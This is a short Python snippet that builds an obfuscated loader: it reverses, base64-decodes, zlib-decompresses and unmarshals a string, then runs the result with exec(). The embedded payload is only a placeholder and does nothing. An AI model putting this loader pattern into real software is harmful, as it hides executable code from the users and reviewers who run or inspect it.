import marshal, zlib, base64 as b
_ = lambda __: marshal.loads(zlib.decompress(b.b64decode(__[::-1])))
exec(_(b'=AAAAAAAAAAA'))
